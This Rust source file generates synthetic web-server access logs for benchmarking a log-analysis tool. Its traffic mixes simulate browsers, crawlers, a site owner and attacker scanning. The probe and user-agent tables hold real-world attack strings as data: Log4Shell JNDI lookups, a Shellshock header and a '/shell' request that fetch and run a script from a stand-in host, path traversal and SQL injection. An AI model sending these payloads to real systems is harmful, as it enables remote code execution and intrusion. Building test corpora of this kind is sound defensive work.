//! The benchmark corpus: one access-log rotation, `files` files of `size / files` bytes,
//! one day each, ending 2026-01-08. Lines are assembled from pre-rendered pieces into an
//! 8 MiB buffer (no `format!` per line); a second thread gzips while the first generates.
//!
//! Two mixes: `attack` (the default) is a small site under heavy scanning, 40k clients
//! and 6% of lines from 2,500 attackers; `site` is a busy site as the internet sees it,
//! most lines and nearly all addresses benign (by default one client per 1,000 bytes of
//! log, 30% of them IPv6, half of the visits from one-off visitors), 0.5% of lines from
//! the same 2,500 attackers; `storm` is a scanner storm, every line a probe from one
//! of many short-lived addresses (by default one per 330 bytes of log, two or three
//! probes each, anywhere in the files; 30% IPv6, sixteen to a /64 as rotating scanners
//! use them).

use super::civil::{self, DAY, SEC};
use super::rng::Rng;
use super::*;
use knocklog::vocab::text::push_decimal;
use std::sync::mpsc::{sync_channel, SyncSender};
use std::thread::{self, JoinHandle};
use std::time::Instant;

const CHUNK: usize = 8 << 20;
const ATTACK_MIX_CLIENTS: usize = 40_000;
const ATTACKERS: usize = 2_500;
/// The owner's two addresses (home network and phone carrier), after clients and attackers.
const OWNER_ADDRESSES: usize = 2;

/// Who sends the lines of a corpus (see the module comment).
#[derive(Clone, Copy, Debug, PartialEq, Eq, clap::ValueEnum)]
pub enum Mix {
    Attack,
    Site,
    Storm,
}

impl Mix {
    /// Clients in the pool when `--clients` is not given: the site mix grows with the size.
    pub fn default_clients(self, size: u64) -> usize {
        match self {
            Mix::Attack => ATTACK_MIX_CLIENTS,
            Mix::Site => (size / 1000).clamp(1_000, 50_000_000) as usize,
            Mix::Storm => (size / 330).clamp(1_000, 50_000_000) as usize,
        }
    }

    fn name(self) -> &'static str {
        match self {
            Mix::Attack => "attack",
            Mix::Site => "site",
            Mix::Storm => "storm",
        }
    }
}

const BROWSERS: [&str; 12] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/143.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:146.0) Gecko/20100101 Firefox/146.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:146.0) Gecko/20100101 Firefox/146.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/143.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/143.0.0.0 Safari/537.36 Edg/143.0.0.0",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/143.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:146.0) Gecko/20100101 Firefox/146.0",
    "Mozilla/5.0 (iPad; CPU OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 15; SM-S921B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/143.0.0.0 Mobile Safari/537.36",
];
const BOTS: [&str; 6] = [
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
    "Mozilla/5.0 (compatible; DuckDuckBot-Https/1.1; https://duckduckgo.com/duckduckbot)",
    "FreshRSS/1.27.1 (Linux; https://freshrss.org)",
];
const SCANNER_UAS: [&str; 12] = [
    "Mozilla/5.0 zgrab/0.x",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "sqlmap/1.9.11#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:004213)",
    "python-requests/2.32.3",
    "Go-http-client/1.1",
    "curl/8.14.1",
    "Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/74.0.3729.169 Safari/537.36",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:76.0) Gecko/20100101 Firefox/76.0",
    "${jndi:ldap://198.51.100.9/a}",
    "() { :; }; /bin/bash -c \\\"wget http://198.51.100.9/x.sh -O- | sh\\\"",
];
/// (request line after the method, status, bytes)
const PROBES: [(&str, &str, u16, u32); 40] = [
    ("GET", "/wp-login.php", 404, 492),
    ("POST", "/xmlrpc.php", 404, 492),
    ("GET", "/wp-admin/setup-config.php", 404, 492),
    ("GET", "/wp-includes/wlwmanifest.xml", 404, 492),
    ("GET", "/.env", 404, 492),
    ("GET", "/.git/config", 404, 492),
    ("GET", "/.aws/credentials", 404, 492),
    ("GET", "/phpmyadmin/index.php", 404, 492),
    ("GET", "/pma/index.php", 404, 492),
    ("GET", "/cgi-bin/luci/;stok=/locale?form=country", 404, 492),
    ("POST", "/boaform/admin/formLogin", 404, 492),
    ("POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404, 492),
    (
        "GET",
        "/index.php?s=/Index/\\\\think\\\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=Hello",
        404,
        492,
    ),
    ("GET", "/?id=1%27%20OR%201=1--", 200, 9737),
    ("GET", "/..%2f..%2f..%2fetc/passwd", 404, 492),
    ("POST", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", 400, 483),
    ("GET", "/?x=${jndi:ldap://198.51.100.9/a}", 200, 9737),
    ("GET", "/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.9/jaws;sh+/tmp/jaws", 404, 492),
    ("POST", "/GponForm/diag_Form?images/", 404, 492),
    ("GET", "/HNAP1/", 404, 492),
    ("GET", "/actuator/env", 404, 492),
    ("GET", "/server-status", 403, 475),
    ("GET", "/.htaccess", 403, 475),
    ("GET", "/admin/", 404, 492),
    ("GET", "/login.action", 404, 492),
    ("GET", "/owa/auth/logon.aspx", 404, 492),
    ("GET", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession", 404, 492),
    ("GET", "/config.json", 404, 492),
    ("GET", "/backup.zip", 404, 492),
    ("GET", "/.DS_Store", 404, 492),
    ("GET", "/containers/json", 404, 492),
    ("GET", "/solr/admin/cores?wt=json", 404, 492),
    ("GET", "/cgi-mod/webctl.cgi", 404, 492),
    ("GET", "/wsman/relay.php", 404, 492),
    ("CONNECT", "example.org:443", 405, 529),
    ("GET", "http://example.org/", 404, 492),
    ("GET", "/private/", 401, 712),
    ("GET", "/", 200, 9737),
    ("GET", "/robots.txt", 200, 412),
    ("PROPFIND", "/", 405, 529),
];
const EXTERNAL_REFERERS: [&str; 8] = [
    "-",
    "-",
    "-",
    "https://www.google.com/",
    "https://www.google.com/",
    "https://duckduckgo.com/",
    "https://www.bing.com/",
    "https://news.ycombinator.com/",
];

/// Everything a line is built from, rendered once.
struct Pools {
    mix: Mix,
    clients: Vec<Vec<u8>>,
    client_ua: Vec<u8>,
    attackers: Vec<Vec<u8>>,
    attacker_ua: Vec<u8>,
    /// (path, size, full URL used as the referer of its assets)
    pages: Vec<(Vec<u8>, u32, Vec<u8>)>,
    assets: Vec<(Vec<u8>, u32)>,
    missing: Vec<Vec<u8>>,
}

/// A public-looking IPv4 address (skips private, loopback, CGNAT, multicast...).
fn public_ipv4(rng: &mut Rng) -> Vec<u8> {
    loop {
        let a = rng.range(1, 224);
        if [10, 100, 127, 169, 172, 192, 198, 203].contains(&a) {
            continue;
        }
        let (b, c, d) = (rng.below(256), rng.below(256), rng.range(1, 255));
        return format!("{a}.{b}.{c}.{d}").into_bytes();
    }
}

impl Pools {
    fn new(seed: u64, mix: Mix, client_count: usize) -> Pools {
        let mut rng = Rng::new(seed ^ 0xB0B);
        let mut clients = Vec::with_capacity(client_count);
        let mut client_ua = Vec::with_capacity(client_count);
        let mut storm_net = String::new();
        for i in 0..client_count {
            if mix == Mix::Storm {
                // Scanners: sixteen addresses to a /64 for the IPv6 30%, random IPv4 else.
                if i % 10 < 3 {
                    if storm_net.is_empty() || i % 160 == 0 {
                        let words: Vec<String> = (0..3).map(|_| format!("{:x}", rng.below(0x10000))).collect();
                        storm_net = format!("2a0{:x}:{}", rng.range(1, 16), words.join(":"));
                    }
                    clients.push(format!("{storm_net}::{:x}", rng.range(1, 0x10000)).into_bytes());
                } else {
                    clients.push(public_ipv4(&mut rng));
                }
                client_ua.push(rng.below(SCANNER_UAS.len() as u64) as u8);
                continue;
            }
            if mix == Mix::Site && i % 10 < 3 {
                // 30% IPv6, with privacy-extension interface identifiers.
                let words: Vec<String> = (0..6).map(|_| format!("{:x}", rng.below(0x10000))).collect();
                clients.push(format!("2001:db8:{}", words.join(":")).into_bytes());
            } else if mix == Mix::Attack && i % 33 == 7 {
                // ~3% of clients speak IPv6.
                clients.push(
                    format!("2001:db8:{:x}:{:x}::{:x}", rng.below(0x10000), rng.below(0x10000), rng.range(1, 0x10000))
                        .into_bytes(),
                );
            } else {
                clients.push(public_ipv4(&mut rng));
            }
            client_ua.push(rng.zipf(BROWSERS.len()) as u8);
        }
        let mut attackers = Vec::with_capacity(ATTACKERS);
        let mut attacker_ua = Vec::with_capacity(ATTACKERS);
        for i in 0..ATTACKERS {
            if i % 40 == 3 {
                attackers
                    .push(format!("2001:db8:bad:{:x}::{:x}", rng.below(0x10000), rng.range(1, 0x10000)).into_bytes());
            } else {
                attackers.push(public_ipv4(&mut rng));
            }
            attacker_ua.push(rng.below(SCANNER_UAS.len() as u64) as u8);
        }
        let topics = ["rust", "linux", "self-hosting", "backups", "emacs", "networking", "homelab", "security"];
        let mut pages = vec![
            (b"/".to_vec(), 9477u32),
            (b"/blog/".to_vec(), 14872),
            (b"/about/".to_vec(), 6231),
            (b"/projects/".to_vec(), 8120),
            (b"/feed.xml".to_vec(), 48213),
        ];
        for n in 0..400u32 {
            let topic = topics[n as usize % topics.len()];
            let year = 2018 + n / 60;
            let month = 1 + n % 12;
            pages.push((
                format!("/blog/{year}/{month:02}/notes-on-{topic}-part-{}/", n / 8 + 1).into_bytes(),
                8_000 + rng.below(30_000) as u32,
            ));
        }
        for topic in topics {
            pages.push((format!("/tags/{topic}/").into_bytes(), 6_000 + rng.below(4_000) as u32));
        }
        let pages = pages
            .into_iter()
            .map(|(path, size)| {
                let mut url = b"https://www.example.com".to_vec();
                url.extend_from_slice(&path);
                (path, size, url)
            })
            .collect();
        let mut assets = vec![
            (b"/css/site.css".to_vec(), 6120u32),
            (b"/js/site.js".to_vec(), 2311),
            (b"/img/avatar.png".to_vec(), 18231),
            (b"/fonts/inter-var.woff2".to_vec(), 48256),
            (b"/favicon.ico".to_vec(), 1150),
        ];
        for n in 0..200 {
            assets.push((format!("/img/posts/figure-{n:03}.webp").into_bytes(), 20_000 + rng.below(200_000) as u32));
        }
        let missing = [
            "/apple-touch-icon.png",
            "/apple-touch-icon-precomposed.png",
            "/blog/2017/old-post/",
            "/tags/emacs/",
            "/index.xml",
            "/.well-known/traffic-advice",
        ]
        .iter()
        .map(|p| p.as_bytes().to_vec())
        .collect();
        Pools { mix, clients, client_ua, attackers, attacker_ua, pages, assets, missing }
    }
}

/// `[dd/Mon/yyyy:HH:MM:SS +0000] "` re-rendered only when the second changes.
struct Clock {
    second: i64,
    text: Vec<u8>,
}

impl Clock {
    fn stamp(&mut self, second: i64) -> &[u8] {
        if second != self.second {
            self.second = second;
            self.text.clear();
            self.text.extend_from_slice(b" [");
            civil::clf(&mut self.text, second * SEC);
            self.text.extend_from_slice(b"] \"");
        }
        &self.text
    }
}

/// The share of lines (per mille) below which a roll is a browser, a crawler, the owner;
/// the rest are attackers.
fn thresholds(mix: Mix) -> (u64, u64, u64) {
    match mix {
        Mix::Attack => (905, 930, 940),
        Mix::Site => (960, 985, 995),
        // Every line an attacker's (`storm_line`).
        Mix::Storm => (0, 0, 0),
    }
}

/// Appends one combined-format line (with its newline); returns the number of the
/// address that sent it (clients, then attackers, then the owner's two).
fn line(out: &mut Vec<u8>, p: &Pools, rng: &mut Rng, stamp: &[u8]) -> usize {
    if p.mix == Mix::Storm {
        return storm_line(out, p, rng, stamp);
    }
    let (browser, crawler, owner) = thresholds(p.mix);
    let roll = rng.below(1000);
    let address;
    if roll < browser {
        // A browser: 60% assets, 40% pages. On a busy site half the visits come from
        // the long tail of one-off visitors.
        let client = if p.mix == Mix::Site && rng.below(2) == 0 {
            rng.below(p.clients.len() as u64) as usize
        } else {
            rng.zipf(p.clients.len())
        };
        address = client;
        out.extend_from_slice(&p.clients[client]);
        out.extend_from_slice(b" - -");
        out.extend_from_slice(stamp);
        let ua = BROWSERS[p.client_ua[client] as usize];
        let page = &p.pages[rng.zipf(p.pages.len())];
        if rng.below(10) < 6 {
            let (path, size) = &p.assets[rng.zipf(p.assets.len())];
            out.extend_from_slice(b"GET ");
            out.extend_from_slice(path);
            if rng.below(10) < 3 {
                out.extend_from_slice(b" HTTP/1.1\" 304 ");
                push_decimal(out, 180 + rng.below(80));
            } else {
                out.extend_from_slice(b" HTTP/1.1\" 200 ");
                push_decimal(out, *size as u64 + 250);
            }
            out.extend_from_slice(b" \"");
            out.extend_from_slice(&page.2);
        } else {
            let status_roll = rng.below(100);
            if status_roll < 3 {
                out.extend_from_slice(b"GET ");
                out.extend_from_slice(&p.missing[rng.below(p.missing.len() as u64) as usize]);
                out.extend_from_slice(b" HTTP/1.1\" 404 492 \"");
            } else {
                out.extend_from_slice(if status_roll < 5 { b"HEAD " } else { b"GET " });
                out.extend_from_slice(&page.0);
                if status_roll < 12 {
                    out.extend_from_slice(b" HTTP/1.1\" 304 ");
                    push_decimal(out, 180 + rng.below(80));
                } else {
                    out.extend_from_slice(b" HTTP/2.0\" 200 ");
                    push_decimal(out, page.1 as u64 + 260);
                }
                out.extend_from_slice(b" \"");
            }
            if rng.below(3) == 0 {
                out.extend_from_slice(&p.pages[rng.zipf(p.pages.len())].2);
            } else {
                out.extend_from_slice(EXTERNAL_REFERERS[rng.below(EXTERNAL_REFERERS.len() as u64) as usize].as_bytes());
            }
        }
        out.extend_from_slice(b"\" \"");
        out.extend_from_slice(ua.as_bytes());
    } else if roll < crawler {
        // Crawlers and feed readers, from a small pool of addresses.
        let bot = rng.below(BOTS.len() as u64) as usize;
        address = p.clients.len() - 1 - bot * 17 - rng.below(4) as usize;
        out.extend_from_slice(&p.clients[address]);
        out.extend_from_slice(b" - -");
        out.extend_from_slice(stamp);
        let page = &p.pages[rng.zipf(p.pages.len())];
        out.extend_from_slice(b"GET ");
        out.extend_from_slice(&page.0);
        out.extend_from_slice(b" HTTP/1.1\" 200 ");
        push_decimal(out, page.1 as u64 + 260);
        out.extend_from_slice(b" \"-\" \"");
        out.extend_from_slice(BOTS[bot].as_bytes());
    } else if roll < owner {
        // The owner in /private/ with basic auth.
        let home = roll < (crawler + owner) / 2;
        address = p.clients.len() + ATTACKERS + usize::from(!home);
        out.extend_from_slice(if home { b"192.168.1.10 - alice" } else { b"100.72.14.201 - alice" });
        out.extend_from_slice(stamp);
        out.extend_from_slice(b"GET /private/notes/ HTTP/1.1\" 200 4690 \"-\" \"");
        out.extend_from_slice(BROWSERS[3].as_bytes());
    } else {
        // Attackers: scanners, exploit bots, brute forcers.
        let attacker = rng.zipf(ATTACKERS);
        address = p.clients.len() + attacker;
        probe_line(out, &p.attackers[attacker], stamp, PROBES[rng.below(PROBES.len() as u64) as usize]);
        out.extend_from_slice(SCANNER_UAS[p.attacker_ua[attacker] as usize].as_bytes());
    }
    out.extend_from_slice(b"\"\n");
    address
}

/// A line of the storm mix: a probe from any of the pool's scanners, picked uniformly.
fn storm_line(out: &mut Vec<u8>, p: &Pools, rng: &mut Rng, stamp: &[u8]) -> usize {
    let scanner = rng.below(p.clients.len() as u64) as usize;
    probe_line(out, &p.clients[scanner], stamp, PROBES[rng.below(PROBES.len() as u64) as usize]);
    out.extend_from_slice(SCANNER_UAS[p.client_ua[scanner] as usize].as_bytes());
    out.extend_from_slice(b"\"\n");
    scanner
}

/// A probe's line up to its user agent: `address - user [time] "request" status bytes "-" "`.
fn probe_line(out: &mut Vec<u8>, address: &[u8], stamp: &[u8], probe: (&str, &str, u16, u32)) {
    let (method, path, status, bytes) = probe;
    out.extend_from_slice(address);
    out.extend_from_slice(if status == 401 { b" - admin" } else { b" - -" });
    out.extend_from_slice(stamp);
    out.extend_from_slice(method.as_bytes());
    out.push(b' ');
    out.extend_from_slice(path.as_bytes());
    out.extend_from_slice(b" HTTP/1.1\" ");
    push_decimal(out, status as u64);
    out.push(b' ');
    push_decimal(out, bytes as u64);
    out.extend_from_slice(b" \"-\" \"");
}

type Compressor = (SyncSender<Vec<u8>>, JoinHandle<io::Result<()>>);

fn spawn_compressor(path: PathBuf) -> io::Result<Compressor> {
    let file = File::create(&path)?;
    let (sender, receiver) = sync_channel::<Vec<u8>>(2);
    let handle = thread::spawn(move || -> io::Result<()> {
        let sink = io::BufWriter::with_capacity(1 << 20, file);
        let mut encoder = flate2::GzBuilder::new().mtime(0).write(sink, flate2::Compression::new(6));
        for chunk in receiver {
            encoder.write_all(&chunk)?;
        }
        encoder.finish()?.flush()
    });
    Ok((sender, handle))
}

/// What `run` writes: where, how much, and from whom.
pub struct Request {
    pub size: u64,
    pub files: u32,
    pub gzip: bool,
    pub seed: u64,
    pub mix: Mix,
    /// Clients in the pool (`Mix::default_clients` when not given).
    pub clients: Option<usize>,
}

pub fn run(out: &Path, request: &Request) -> io::Result<()> {
    let Request { size, files, gzip, seed, mix, .. } = *request;
    let client_count = request.clients.unwrap_or_else(|| mix.default_clients(size));
    let plain_dir = out.join("plain");
    let gz_dir = out.join("gz");
    fs::create_dir_all(&plain_dir)?;
    if gzip {
        fs::create_dir_all(&gz_dir)?;
    }
    let stamp_path = out.join("knocklog-gen.stamp");
    // A half-written corpus must not look reusable.
    let _ = fs::remove_file(&stamp_path);
    let started = Instant::now();
    let pools = Pools::new(seed, mix, client_count);
    // Which addresses sent at least one line: the benchmark divides memory by their count.
    let mut seen = vec![0u64; (client_count + ATTACKERS + OWNER_ADDRESSES).div_ceil(64)];
    let per_file = size.div_ceil(files as u64);
    let newest_day = civil::at(2026, 1, 8, 0, 0, 0) / SEC;
    let (mut total_bytes, mut total_lines) = (0u64, 0u64);
    // Oldest first, so the clock only moves forward.
    for index in (0..files).rev() {
        let name = if index == 0 { "access.log".to_string() } else { format!("access.log.{index}") };
        let day_start = newest_day - index as i64 * (DAY / SEC);
        let mut rng = Rng::new(seed.wrapping_mul(0x9E37_79B9).wrapping_add(index as u64));
        let mut compressor = if gzip { Some(spawn_compressor(gz_dir.join(format!("{name}.gz")))?) } else { None };
        let mut file = File::create(plain_dir.join(&name))?;
        let mut clock = Clock { second: i64::MIN, text: Vec::new() };
        let mut buffer: Vec<u8> = Vec::with_capacity(CHUNK + 4096);
        let mut written = 0u64;
        loop {
            let done = written + buffer.len() as u64;
            if done >= per_file {
                break;
            }
            let second = day_start + (done as u128 * (DAY / SEC) as u128 / per_file as u128) as i64;
            let address = line(&mut buffer, &pools, &mut rng, clock.stamp(second));
            seen[address / 64] |= 1 << (address % 64);
            total_lines += 1;
            if buffer.len() >= CHUNK {
                written += flush(&mut file, &mut buffer, compressor.as_ref())?;
            }
        }
        written += flush(&mut file, &mut buffer, compressor.as_ref())?;
        total_bytes += written;
        if let Some((sender, handle)) = compressor.take() {
            drop(sender);
            handle.join().map_err(|_| io::Error::other("gzip thread panicked"))??;
        }
    }
    let seconds = started.elapsed().as_secs_f64();
    let addresses: u64 = seen.iter().map(|word| u64::from(word.count_ones())).sum();
    let mix_name = mix.name();
    fs::write(
        &stamp_path,
        format!(
            "size={size} files={files} gzip={gzip} seed={seed} mix={mix_name} clients={client_count} \
             bytes={total_bytes} lines={total_lines} addresses={addresses}\n"
        ),
    )?;
    eprintln!(
        "knocklog-gen: {} files, {} bytes, {} lines from {} addresses ({} mix) in {:.2} s ({:.0} MB/s){}",
        files,
        total_bytes,
        total_lines,
        addresses,
        mix_name,
        seconds,
        total_bytes as f64 / 1e6 / seconds,
        if gzip { ", with gzip copies" } else { "" }
    );
    Ok(())
}

/// Writes the buffer to the plain file and hands it to the gzip thread, if any.
fn flush(file: &mut File, buffer: &mut Vec<u8>, compressor: Option<&Compressor>) -> io::Result<u64> {
    let len = buffer.len() as u64;
    file.write_all(buffer)?;
    match compressor {
        Some((sender, _)) => {
            let full = std::mem::replace(buffer, Vec::with_capacity(CHUNK + 4096));
            sender.send(full).map_err(|_| io::Error::other("gzip thread stopped"))?;
        }
        None => buffer.clear(),
    }
    Ok(len)
}
